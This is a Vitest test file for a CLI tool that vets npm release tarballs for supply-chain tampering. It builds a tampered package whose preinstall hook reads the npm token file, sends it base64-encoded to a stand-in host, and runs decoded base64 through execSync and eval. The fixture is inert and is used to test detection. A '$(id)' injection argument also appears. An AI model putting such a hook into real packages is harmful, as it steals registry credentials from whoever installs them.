import { appendFileSync, existsSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { setTimeout } from 'node:timers/promises'
import { describe, expect, it, onTestFinished } from 'vitest'
import type { Vetting } from '../src/releases/vetting.ts'
import { start, temporaryFolder } from './support/cli.ts'
import { type Files, packTarball, writeFiles } from './support/pack.ts'
import { type TestRegistry, testRegistry } from './support/registry.ts'

const code = `'use strict'
const { readFileSync } = require('node:fs')

function lines(path) {
  return readFileSync(path, 'utf8').split('\\n')
}

function longest(path) {
  return lines(path).reduce((most, line) => Math.max(most, line.length), 0)
}

module.exports = { lines, longest }
`

function thing(version: string, more: Files = {}, manifest: object = {}): Files {
  return {
    'package.json': JSON.stringify({ name: 'thing', version, main: 'index.js', license: 'MIT', ...manifest }, null, 2),
    'readme.md': `# thing\n\nVersion ${version}.\n`,
    'index.js': code,
    ...more,
  }
}

/** Inert: what is decoded is \`exit 0\`, and the host does not exist. The shape is that of the attacks of 2025. */
const hook = `const { execSync } = require('node:child_process')
const { readFileSync } = require('node:fs')
const https = require('node:https')
const token = readFileSync(require('node:os').homedir() + '/.npmrc', 'utf8')
https.request({ host: 'collect.thing.invalid', method: 'POST', path: '/' + Buffer.from(token).toString('base64') }).end()
execSync(Buffer.from('ZXhpdCAw', 'base64').toString(), { shell: '/bin/sh' })
eval(Buffer.from('dm9pZCAw', 'base64').toString())
`
const tampered = (version: string) => thing(version, { 'setup.js': hook }, { scripts: { preinstall: 'node setup.js' } })

interface Place {
  readonly path: string
}

async function vet(at: Place, args: readonly string[], env: NodeJS.ProcessEnv = {}) {
  const temporary = join(at.path, 'tmp')
  mkdirSync(temporary, { recursive: true })
  const all = ['vet', ...args, '--workspace', join(at.path, 'w')]
  // No registry of this machine is asked: what is not in a test's own registry does not answer.
  const ended = await start(all, { cwd: at.path, env: { npm_config_registry: 'http://127.0.0.1:9/', TMPDIR: temporary, ...env } }).ended
  expect(readdirSync(temporary)).toEqual([])
  const vetting = args.includes('--json') && ended.stdout !== '' ? (JSON.parse(ended.stdout) as Vetting & { readonly format: string }) : undefined
  return { ...ended, vetting }
}

async function published(...versions: readonly (readonly [version: string, files: Files, more?: object])[]): Promise<TestRegistry> {
  const registry = await testRegistry()
  for (const [version, files, more] of versions)
    registry.publish('thing', { version, tarball: packTarball(files), publishedAt: '2024-01-01T00:00:00.000Z', ...more })
  return registry
}

describe('gatehouse vet', () => {
  it('shows its examples first, and when it ends how', async () => {
    const { stdout } = await start(['vet', '--help']).ended
    expect(stdout).toMatch(/^Examples:\n {2}gatehouse vet setup/)
    expect(stdout).toMatch(/Exit: 0 nothing/)
  })

  it.each([
    [[], /say what to vet/],
    [['missing.msi'], /there is no file or folder missing\.msi/],
    [['npm:../up'], /names no package of npm/],
    [['--watch', 'in', 'x.msi'], /--watch takes no release/],
    [['.', '--json', '--sarif'], /cannot be used with/],
    [['.', '--fail-on', 'sometimes'], /vet\.failOn cannot be "sometimes" \(from --fail-on\)/],
    [['.', '--rules', 'nowhere'], /no folder of rules nowhere/],
    [['.', '--key', 'nowhere'], /the keys cannot be read from nowhere/],
    [['.', '--advisory', '$(id)'], /is no id of an advisory/],
  ])('says what is wrong with %j', async (args, message) => {
    using folder = temporaryFolder()
    const { stderr, stdout, code } = await vet(folder, args)
    expect(stderr).toMatch(message)
    expect(stdout).toBe('')
    expect(code).toBe(2)
  })

  it('allows a release that adds nothing, and remembers it for the next one', async () => {
    using folder = temporaryFolder()
    writeFileSync(join(folder.path, 'thing-1.0.0.tgz'), packTarball(thing('1.0.0')))
    writeFileSync(join(folder.path, 'thing-1.0.1.tgz'), packTarball(thing('1.0.1', { 'index.js': code.replace('Math.max', 'Math.min') })))
    const first = await vet(folder, ['thing-1.0.0.tgz', '--json', '--offline'])
    expect(first.vetting).toMatchObject({
      format: 'gatehouse-vetting',
      word: 'ALLOW',
      basis: 'none',
      release: { identity: { ecosystem: 'npm', name: 'thing', version: '1.0.0' } },
    })
    expect(first.code).toBe(0)
    const second = await vet(folder, ['thing-1.0.1.tgz', '--json', '--offline'])
    expect(second.vetting).toMatchObject({ word: 'ALLOW', basis: 'workspace', previous: { identity: { version: '1.0.0' } } })
    expect(second.code).toBe(0)
  })

  it('stops a tampered release with reasons, and does not compare the next one with it', async () => {
    using folder = temporaryFolder()
    for (const [name, files] of [
      ['old', thing('1.0.0')],
      ['bad', tampered('1.0.1')],
      ['next', tampered('1.0.2')],
    ] as const)
      writeFileSync(join(folder.path, `${name}.tgz`), packTarball(files))
    const { stdout, code } = await vet(folder, ['bad.tgz', '--against', 'old.tgz', '--no-store'])
    expect(stdout).toMatch(/^\s*(BLOCK|HOLD)\n/)
    expect(stdout).toMatch(/Reasons \(\d+\)[\s\S]*where +\S*(setup\.js|package\.json)/)
    expect(code).toBe(1)
    // Nothing was kept, so nothing is there.
    expect(existsSync(join(folder.path, 'w'))).toBe(false)
    const json = await vet(folder, ['bad.tgz', '--against', 'old.tgz', '--json'])
    expect(json.vetting?.gained).toEqual(expect.arrayContaining(['network', 'execute']))
    expect(json.vetting?.facts.some((fact) => fact.class === 'B')).toBe(true)
    const next = await vet(folder, ['next.tgz', '--json', '--offline'])
    if (json.vetting?.word === 'BLOCK') expect(next.vetting?.basis).toBe('none')
  })

  it('ends as --fail-on says', async () => {
    using folder = temporaryFolder()
    writeFiles(join(folder.path, 'old'), thing('1.0.0'))
    writeFiles(join(folder.path, 'bad'), tampered('1.0.1'))
    const args = ['bad', '--against', 'old', '--no-store']
    expect((await vet(folder, args)).code).toBe(1)
    expect((await vet(folder, [...args, '--fail-on', 'never'])).code).toBe(0)
    expect((await vet(folder, args, { GATEHOUSE_VET_FAIL_ON: 'never' })).code).toBe(0)
  })

  it('says that part of it could not be opened, and that ALLOW does not speak for all', async () => {
    using folder = temporaryFolder()
    const whole = packTarball(thing('1.0.0', { 'data.bin': Buffer.from(Array.from({ length: 60_000 }, (_, index) => (index * index * 31) % 251)) }))
    writeFileSync(join(folder.path, 'cut.tgz'), whole.subarray(0, whole.length - 200))
    const { vetting, code } = await vet(folder, ['cut.tgz', '--json', '--offline', '--fail-on', 'never'])
    expect(vetting?.unopened.map((part) => part.code)).toContain('damaged')
    expect(code).toBe(3)
  })

  it('writes SARIF and a page that hold together with the verdict', async () => {
    using folder = temporaryFolder()
    writeFiles(join(folder.path, 'old'), thing('1.0.0'))
    writeFiles(join(folder.path, 'bad'), tampered('1.0.1'))
    const { stdout } = await vet(folder, ['bad', '--against', 'old', '--sarif', '--report', join(folder.path, 'report.html')])
    const log = JSON.parse(stdout) as { readonly runs: readonly { readonly results: readonly object[]; readonly properties: { readonly word: string } }[] }
    const page = readFileSync(join(folder.path, 'report.html'), 'utf8')
    expect(/<title>([^<]*)<\/title>/.exec(page)?.[1]).toBe(`${log.runs[0]?.properties.word}: thing 1.0.1`)
    expect(log.runs[0]?.results.length).toBeGreaterThan(0)
    const wrong = await vet(folder, ['bad', '--report', join(folder.path, 'missing', 'report.html')])
    expect(wrong.stderr).toContain('OUTPUT_UNWRITABLE')
    expect(wrong.code).toBe(3)
  })
})

describe('gatehouse vet npm:…', () => {
  it('fetches a package and the one before, with what the registry says of both', async () => {
    using folder = temporaryFolder()
    await using registry = await published(
      ['1.0.0', thing('1.0.0'), { publisher: 'ada' }],
      ['1.1.0', thing('1.1.0'), { publisher: 'ada', publishedAt: '2024-02-01T00:00:00.000Z' }],
      ['1.2.0-rc.1', thing('1.2.0-rc.1'), { publishedAt: '2024-03-01T00:00:00.000Z' }],
      ['1.2.0', thing('1.2.0'), { publisher: 'ada', publishedAt: '2024-04-01T00:00:00.000Z' }],
    )
    const { vetting, code } = await vet(folder, ['npm:thing', '--json'], { npm_config_registry: registry.url })
    expect(vetting).toMatchObject({
      word: 'ALLOW',
      basis: 'registry',
      release: {
        identity: { ecosystem: 'npm', version: '1.2.0', purl: 'pkg:npm/thing@1.2.0' },
        publication: { publisher: 'ada', publishedAt: '2024-04-01T00:00:00.000Z' },
      },
      previous: { identity: { version: '1.1.0' }, publication: { publisher: 'ada' } },
    })
    expect(code).toBe(0)
    const asked = registry.asked.length
    // The tarball comes from the cache the second time.
    await vet(folder, ['npm:thing@1.2.0', '--json'], { npm_config_registry: registry.url })
    expect(registry.asked.slice(asked).map(({ path }) => path)).toEqual(['/thing'])
    const given = await vet(folder, ['npm:thing@1.1.0', '--against', 'npm:thing@1.0.0', '--json'], { npm_config_registry: registry.url })
    expect(given.vetting).toMatchObject({ basis: 'given', release: { identity: { version: '1.1.0' } }, previous: { identity: { version: '1.0.0' } } })
  })

  it('holds what is younger than the policy, unless it answers an advisory', async () => {
    using folder = temporaryFolder()
    const hours = (ago: number) => new Date(Date.now() - ago * 3.6e6).toISOString()
    await using registry = await published(['1.0.0', thing('1.0.0'), { publishedAt: hours(900) }], ['1.0.1', thing('1.0.1'), { publishedAt: hours(5) }])
    const env = { npm_config_registry: registry.url }
    const young = await vet(folder, ['npm:thing', '--json', '--no-store'], env)
    expect(young.vetting).toMatchObject({ word: 'HOLD', facts: [{ class: 'I' }] })
    expect(young.code).toBe(1)
    expect((await vet(folder, ['npm:thing', '--json', '--no-store', '--advisory', 'CVE-2024-0001'], env)).vetting?.word).toBe('ALLOW')
    expect((await vet(folder, ['npm:thing', '--json', '--no-store'], { ...env, GATEHOUSE_VET_MINIMUM_AGE: '4' })).vetting?.word).toBe('ALLOW')
  })

  it('blocks a release that is known, and never compares with one', async () => {
    using folder = temporaryFolder()
    await using registry = await testRegistry()
    const axios = (version: string) => packTarball(thing(version, {}, { name: 'axios' }))
    for (const [month, version] of ['1.14.0', '1.14.1', '1.14.2'].entries())
      registry.publish('axios', { version, tarball: axios(version), publishedAt: `2024-0${month + 1}-01T00:00:00.000Z` })
    const env = { npm_config_registry: registry.url }
    expect((await vet(folder, ['npm:axios@1.14.1', '--json'], env)).vetting).toMatchObject({
      word: 'BLOCK',
      facts: [{ class: 'A', name: 'known-compromised' }],
    })
    expect((await vet(folder, ['npm:axios@1.14.2', '--json', '--no-store'], env)).vetting).toMatchObject({
      word: 'ALLOW',
      previous: { identity: { version: '1.14.0' } },
    })
  })

  it('says when the registry does not answer or does not know it, or what it sent is not what it promised', async () => {
    using folder = temporaryFolder()
    await using registry = await published(['1.0.0', thing('1.0.0')])
    const env = { npm_config_registry: registry.url }
    expect(await vet(folder, ['npm:other'], env)).toMatchObject({ code: 2, stderr: expect.stringContaining('RELEASE_MISSING') as string })
    expect(await vet(folder, ['npm:thing@3.0.0'], env)).toMatchObject({ code: 2, stderr: expect.stringContaining('It has 1.0.0') as string })
    expect(await vet(folder, ['npm:thing', '--offline'], env)).toMatchObject({ code: 3, stderr: expect.stringContaining('--offline') as string })
    registry.interfere = (request, response) => {
      if (!request.url?.endsWith('.tgz')) return false
      response.end('something else')
      return true
    }
    expect(await vet(folder, ['npm:thing'], env)).toMatchObject({ code: 3, stderr: expect.stringContaining('Do not install it') as string })
  })

  it('ends on Ctrl-C with 130 and leaves nothing behind', async () => {
    using folder = temporaryFolder()
    await using registry = await published(['1.0.0', thing('1.0.0')])
    registry.interfere = () => true
    const temporary = join(folder.path, 'tmp')
    mkdirSync(temporary)
    const { child, ended } = start(['vet', 'npm:thing', '--workspace', join(folder.path, 'w')], {
      env: { npm_config_registry: registry.url, TMPDIR: temporary },
    })
    while (registry.asked.length === 0) await setTimeout(20)
    expect(readdirSync(temporary)).toHaveLength(1)
    child.kill('SIGINT')
    const { code, stderr } = await ended
    expect(stderr).toContain('Interrupted')
    expect(code).toBe(130)
    expect(readdirSync(temporary)).toEqual([])
  })
})

describe('gatehouse vet --watch', () => {
  it('vets what is dropped once it stopped growing, and nothing twice, over restarts too', async () => {
    using folder = temporaryFolder()
    const incoming = join(folder.path, 'in')
    mkdirSync(incoming)
    const args = ['vet', '--watch', incoming, '--workspace', join(folder.path, 'w'), '--offline']
    const [old, bad] = [packTarball(thing('1.0.0')), packTarball(tampered('1.0.1'))]
    const watch = start(args)
    // A test that fails leaves no watch behind.
    onTestFinished(() => void watch.child.kill('SIGKILL'))
    writeFileSync(join(incoming, 'thing-1.0.0.tgz'), old)
    writeFileSync(join(incoming, '.hidden.tgz'), old)
    writeFileSync(join(incoming, 'later.tgz.part'), old)
    // It grows for longer than two looks.
    const steps = 8
    for (let step = 0; step < steps; step++) {
      appendFileSync(join(incoming, 'thing-1.0.1.tgz'), bad.subarray(Math.floor((bad.length * step) / steps), Math.floor((bad.length * (step + 1)) / steps)))
      await setTimeout(500)
    }
    let seen = ''
    watch.child.stdout?.on('data', (part: string) => {
      seen += part
    })
    while (!seen.includes('thing-1.0.1.tgz') && watch.child.exitCode === null) await setTimeout(100)
    watch.child.kill('SIGINT')
    const first = await watch.ended
    expect(first.code).toBe(0)
    const lines = first.stdout.trim().split('\n')
    expect(lines).toHaveLength(2)
    expect(lines[0]).toMatch(/^ALLOW +thing 1\.0\.0: .*\(thing-1\.0\.0\.tgz\)$/)
    expect(lines[1]).toMatch(/^(HOLD|BLOCK) +thing 1\.0\.1: .*\(thing-1\.0\.1\.tgz\)$/)
    writeFileSync(join(incoming, 'copy.tgz'), old)
    const again = start(args)
    onTestFinished(() => void again.child.kill('SIGKILL'))
    let told = ''
    again.child.stderr?.on('data', (part: string) => {
      told += part
    })
    while ((told.match(/vetted before/g) ?? []).length < 3 && again.child.exitCode === null) await setTimeout(100)
    again.child.kill('SIGINT')
    expect((await again.ended).stdout).toBe('')
  })

  it('goes on after a file that it cannot read', async () => {
    using folder = temporaryFolder()
    const { stderr, code } = await start(['vet', '--watch', join(folder.path, 'nowhere'), '--workspace', join(folder.path, 'w')]).ended
    expect(stderr).toContain('ARTIFACT_MISSING')
    expect(code).toBe(2)
  })
})

describe('together with assess', () => {
  it('says EXPOSED where a release is installed that is known to have been tampered with, and names the hosts', async () => {
    using folder = temporaryFolder()
    const evidence = join(folder.path, 'evidence')
    mkdirSync(evidence)
    writeFileSync(
      join(evidence, 'software.csv'),
      'host,product,version,vendor,installed\nfront-desk-1,3CX Desktop App,18.12.416.0,3CX,2023-03-24\nfront-desk-2,3CX Desktop App,18.12.425,3CX,2023-04-04\n',
    )
    const { stdout, code } = await start(['assess', evidence, '--workspace', join(folder.path, 'w'), '--fail-on', 'high']).ended
    expect(stdout).toMatch(/^\s*EXPOSED\n1 host has 3CX Desktop App 18\.12\.416\.0, which is known to have been tampered/)
    expect(stdout).toContain('front-desk-1')
    expect(stdout).not.toContain('front-desk-2')
    expect(code).toBe(1)
  })
})
